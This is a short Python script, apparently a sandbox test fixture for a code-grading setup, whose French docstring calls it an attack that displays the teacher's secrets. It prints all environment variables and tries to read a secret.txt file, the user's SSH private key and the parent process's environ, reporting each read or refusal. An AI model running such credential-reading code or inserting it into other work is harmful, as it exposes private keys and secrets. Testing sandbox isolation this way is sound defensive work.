"""Attaque : affiche les secrets de l'enseignant (variables d'environnement, fichiers de son dossier personnel)."""

import json
import os
import pwd

CIBLES = json.load(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "cibles.json")))

print("environnement :", dict(os.environ), flush=True)
for chemin in (
    os.path.join(CIBLES["home"], "secret.txt"),
    os.path.join(pwd.getpwuid(os.getuid()).pw_dir, ".ssh", "id_rsa"),
    f"/proc/{os.getppid()}/environ",
):
    try:
        with open(chemin, "rb") as fichier:
            print("lu :", chemin, fichier.read(200), flush=True)
    except OSError as erreur:
        print("refusé :", chemin, erreur.strerror, flush=True)
print("attaque terminée", flush=True)
